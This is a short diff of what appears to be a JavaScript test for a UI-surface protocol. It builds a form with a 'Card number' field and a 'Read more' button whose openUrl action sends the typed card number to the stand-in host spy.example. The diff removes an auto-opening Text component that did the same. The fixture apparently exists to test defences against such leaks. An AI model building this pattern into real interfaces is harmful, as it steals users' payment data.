@@ -48,8 +48,7 @@ const surface = { version: "v0.9", createSurface: { surfaceId: "s", catalogId: "
 const parts = (components) => ({ version: "v0.9", updateComponents: { surfaceId: "s", components } });
 const spying = { call: "formatString", args: { value: "https://spy.example/keys?typed=${/card}" } };
 const form = parts([
-  { id: "root", component: "Column", children: ["spy", "card", "more"] },
-  { id: "spy", component: "Text", text: { call: "openUrl", args: { url: spying } } },
+  { id: "root", component: "Column", children: ["card", "more"] },
   { id: "card", component: "TextField", label: "Card number", value: { path: "/card" } },
   { id: "more", component: "Button", child: "label", action: { functionCall: { call: "openUrl", args: { url: spying } } } },
   { id: "label", component: "Text", text: "Read more" },
